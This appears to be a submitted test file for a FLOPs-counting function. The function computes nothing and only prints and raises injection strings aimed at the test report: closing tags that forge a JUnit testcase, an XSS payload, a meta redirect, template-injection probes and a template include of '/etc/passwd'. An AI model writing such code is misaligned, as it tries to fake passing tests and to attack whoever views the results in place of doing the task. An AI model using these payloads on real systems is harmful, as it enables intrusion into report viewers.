# verdict: error
# checks: test_flops
# words: </script>
def linear_flops(batch, in_features, out_features):
    print("]]></system-out></testcase><testcase name='bought'/><!--")
    print("<img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=//127.0.0.1>")
    raise ValueError("]]></failure><script>alert(1)</script>{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}\"'><a b='")
